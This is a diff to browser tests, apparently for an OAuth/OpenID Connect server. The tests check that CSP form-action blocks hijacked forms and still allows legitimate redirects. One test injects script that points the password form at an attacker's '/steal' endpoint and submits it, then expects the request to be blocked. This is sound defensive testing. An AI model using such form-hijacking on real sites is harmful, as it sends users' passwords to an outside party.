@@ -36,6 +36,7 @@ async function register(id: string, at: Site, firstParty = false): Promise<void>
     name: 'Photo <b>Prints</b> & Co.',
     firstParty,
     redirectUris: [`${at.origin}/callback`],
+    metadata: { post_logout_redirect_uris: [`${at.origin}/callback`] },
     grantTypes: ['authorization_code', 'refresh_token'],
     scopes: ['openid', 'profile', 'email', 'offline_access', 'orders:read'],
     secretDigests: [digestOf(SECRET)],
@@ -208,10 +209,52 @@ test('a form that was turned to another site is not sent (CSP form-action, check
   const { begun } = await authorization()
   const { page, complaints } = await browser()
   await page.goto(begun.url)
+  await signIn(page)
+  await page.getByRole('heading', { name: 'Allow access?' }).waitFor()
+  await page.goto(`${service.issuer}/account/password`)
   attacker.visits.length = 0
   await page.evaluate(`document.forms[0].action = '${attacker.origin}/steal'; document.forms[0].submit()`)
   await expect.poll(() => complaints.some((text) => text.includes('form-action'))).toBe(true)
   expect(attacker.visits).toEqual([])
+})
+
+describe('a client that sends the browser on to a site that nobody here knows gets there (CSP form-action on redirects)', () => {
+  let front: Site
+  let app: Site
+  beforeAll(async () => {
+    ;[front, app] = await Promise.all([openSite(), openSite()])
+    front.moves.set('/callback', `${app.origin}/home`)
+    await register('front', front)
+    await register('front-first', front, true)
+  })
+  afterAll(() => Promise.all([front.close(), app.close()]))
+
+  const arrives = async ({ page, complaints }: Chromium) => {
+    await page.waitForURL(`${app.origin}/home`)
+    expect(complaints.filter((text) => text.includes('Content Security Policy'))).toEqual([])
+  }
+
+  test.each(['query', 'fragment', 'form_post'])('from the password, by response_mode=%s', async (mode) => {
+    const opened = await browser()
+    await opened.page.goto((await authorization('front-first', front, { response_mode: mode })).begun.url)
+    await signIn(opened.page)
+    // A fragment goes along on every redirect (RFC 9110 10.2.2).
+    if (mode === 'fragment') await opened.page.waitForURL(`${app.origin}/home#code=**`)
+    else await arrives(opened)
+  })
+
+  test('from consent, and from the sign-out', async () => {
+    const opened = await browser()
+    const { page } = opened
+    await page.goto((await authorization('front', front)).begun.url)
+    await signIn(page)
+    await page.getByRole('button', { name: 'Allow', exact: true }).click()
+    await arrives(opened)
+    const query = new URLSearchParams({ client_id: 'front', post_logout_redirect_uri: `${front.origin}/callback` })
+    await page.goto(`${service.issuer}/oauth/logout?${query}`)
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await arrives(opened)
+  })
 })
 
 test('after ten wrong passwords the next must wait, longer each time: 429 with Retry-After, whatever the password (checklist 38)', async () => {
